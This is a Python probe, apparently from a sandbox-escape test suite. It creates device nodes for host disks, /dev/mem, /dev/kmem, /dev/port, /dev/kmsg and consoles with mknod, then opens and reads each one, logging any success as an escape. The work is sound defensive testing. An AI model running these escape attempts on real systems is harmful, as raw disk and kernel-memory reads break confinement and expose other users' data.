"""Create device nodes for the host disk, /dev/mem, /dev/kmsg, /dev/port and consoles with mknod, then open and read them."""
import os

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

import stat  # noqa: E402


def disks():
    out = []
    try:
        with open("/proc/partitions") as f:
            for line in f.readlines()[2:]:
                parts = line.split()
                if len(parts) == 4:
                    out.append((parts[3], int(parts[0]), int(parts[1])))
    except OSError:
        pass
    try:
        for name in os.listdir("/sys/dev/block"):
            ma, mi = name.split(":")
            out.append(("blk" + name, int(ma), int(mi)))
    except OSError:
        pass
    return out or [("vda", 254, 0), ("sda", 8, 0)]


def main():
    nodes = [(n, stat.S_IFBLK, ma, mi) for n, ma, mi in disks()[:6]]
    nodes += [("mem", stat.S_IFCHR, 1, 1), ("kmem", stat.S_IFCHR, 1, 2), ("port", stat.S_IFCHR, 1, 4),
              ("kmsg", stat.S_IFCHR, 1, 11), ("tty0", stat.S_IFCHR, 4, 0), ("console", stat.S_IFCHR, 5, 1),
              ("loop-control", stat.S_IFCHR, 10, 237), ("fuse", stat.S_IFCHR, 10, 229),
              ("vhost-vsock", stat.S_IFCHR, 10, 241), ("loop0", stat.S_IFBLK, 7, 0)]
    made = 0
    for d in ("/dev", "/tmp", "/dev/shm", "/root", "/run"):
        for name, kind, ma, mi in nodes:
            path = "%s/fbx-%s" % (d, name)
            try:
                os.unlink(path)
            except OSError:
                pass
            try:
                os.mknod(path, kind | 0o600, os.makedev(ma, mi))
            except OSError as e:
                if d == "/dev":
                    NOTES.append("mknod %s (%d:%d): %s" % (path, ma, mi, en(e.errno)))
                continue
            made += 1
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            except OSError as e:
                NOTES.append("mknod %s succeeded but open failed: %s" % (path, en(e.errno)))
                continue
            try:
                data = os.read(fd, 512)
                ESCAPES.append("opened and read %d bytes from device %d:%d via %s" % (len(data), ma, mi, path))
            except OSError as e:
                ESCAPES.append("opened device %d:%d via %s (read: %s)" % (ma, mi, path, en(e.errno)))
            os.close(fd)
    NOTES.append("%d device nodes created, none could be opened" % made)
    # a whiteout (0:0) is the one node a user namespace may create; it is not a device
    try:
        os.mknod("/tmp/fbx-whiteout", stat.S_IFCHR | 0o600, 0)
        fd = os.open("/tmp/fbx-whiteout", os.O_RDONLY | os.O_NONBLOCK)
        os.close(fd)
        ESCAPES.append("opened a 0:0 device node")
    except OSError as e:
        NOTES.append("whiteout node: %s" % en(e.errno))


if __name__ == "__main__":
    finish(main)
